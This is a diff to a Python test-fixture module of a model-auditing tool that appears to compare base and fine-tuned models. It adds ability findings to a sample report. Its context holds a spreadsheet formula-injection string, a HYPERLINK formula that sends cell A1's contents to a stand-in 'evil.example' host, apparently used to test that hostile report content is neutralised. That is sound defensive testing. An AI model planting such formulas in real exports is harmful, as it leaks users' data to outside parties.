@@ -7,6 +7,11 @@ from dataclasses import fields, is_dataclass, replace
 from enum import Enum
 from typing import Any
 
+from keeptune.audit.abilities.ask import Reason
+from keeptune.audit.abilities.compare import Standing
+from keeptune.audit.abilities.item import Name
+from keeptune.audit.abilities.measure import Answer as AbilityAnswer
+from keeptune.audit.abilities.measure import Result
 from keeptune.audit.safety.section import Answer, SetDetails
 from keeptune.audit.settings import SECTIONS
 from keeptune.audit.where.layers import LayerProfile
@@ -16,6 +21,7 @@ from keeptune.probes.recovery import Recovery
 from keeptune.report.codec import from_json, to_json
 from keeptune.report.document import Model, Outcome, OutcomeStatus, Report, SectionRecord, Status, Subject
 from keeptune.report.finding import Finding, Level, found, together
+from keeptune.report.measures import Verdict
 from keeptune.stats import Interval
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
@@ -105,6 +111,25 @@ def harness_findings() -> list[Finding]:
     ]
 
 
+def ability_findings() -> list[Finding]:
+    about: Any = {"base": Level(value=0.4), "tuned": Level(value=0.2), "unit_of_n": "item"}
+    change = interval(-0.2, 0.1, 40)
+    return [
+        found("abilities", "format", "passed", change, p=0.02, lost=9, gained=1, headline=True, **about),
+        found("abilities", "sound", "passed", change, beforehand=Verdict.CANNOT, **about),
+    ]
+
+
+def ability_details() -> dict[str, Result]:
+    one = AbilityAnswer(item="00", kind="valid JSON", prompt="As JSON?", base="{}", tuned="the the", base_passes=True,
+                        tuned_passes=False)  # fmt: skip
+    return {
+        "format": Result(name=Name.FORMAT, standing=Standing.ABLE, answers=[one] * 3),
+        "sound": Result(name=Name.SOUND, standing=Standing.CANNOT, answers=[one] * 2),
+        "tools": Result(name=Name.TOOLS, standing=Standing.CANNOT, reason=Reason.NO_TOOLS),
+    }
+
+
 def answers(count: int = 3) -> list[Answer]:
     refused = {"rules": [True, False], "likelihood": [True, True]}
     one = Answer(prompt="How do I?", base="I cannot.", tuned="wire;", refused=refused, broken=[False, True])
@@ -133,7 +158,8 @@ def records() -> list[SectionRecord]:
         "tasks": [subject("arc", "task")],
         "refusals": [subject("advbench", "prompts"), subject("harmless", "prompts")],
     }
-    details: dict[str, Any] = {"refusals": to_json(sets), "where": to_json(where_details())}
+    details: dict[str, Any] = {"refusals": to_json(sets), "where": to_json(where_details()),
+                               "abilities": to_json(ability_details())}  # fmt: skip
     return [
         SectionRecord(
             name=section.name,
@@ -161,6 +187,7 @@ def findings() -> list[Finding]:
         *task_findings(-0.02, 1.0, "chat"),
         *task_findings(0.0, 1.0, "plain, raw sum", headline=False),
         *harness_findings(),
+        *ability_findings(),
         *refusal_findings("advbench", "harmful", -0.29, 0.000012),
         *refusal_findings("harmless", "harmless", 0.01, 1.0),
         *where_findings("self"),
@@ -200,7 +227,8 @@ def hostile_report() -> Report:
     report = _hostile(full_report())
     sections = []
     for record in report.sections:
-        kinds: dict[str, Any] = {"refusals": dict[str, SetDetails], "where": WhereDetails}
+        kinds: dict[str, Any] = {"refusals": dict[str, SetDetails], "where": WhereDetails,
+                                 "abilities": dict[str, Result]}  # fmt: skip
         name = record.name.removeprefix(HOSTILE)
         details = record.details
         if name in kinds:
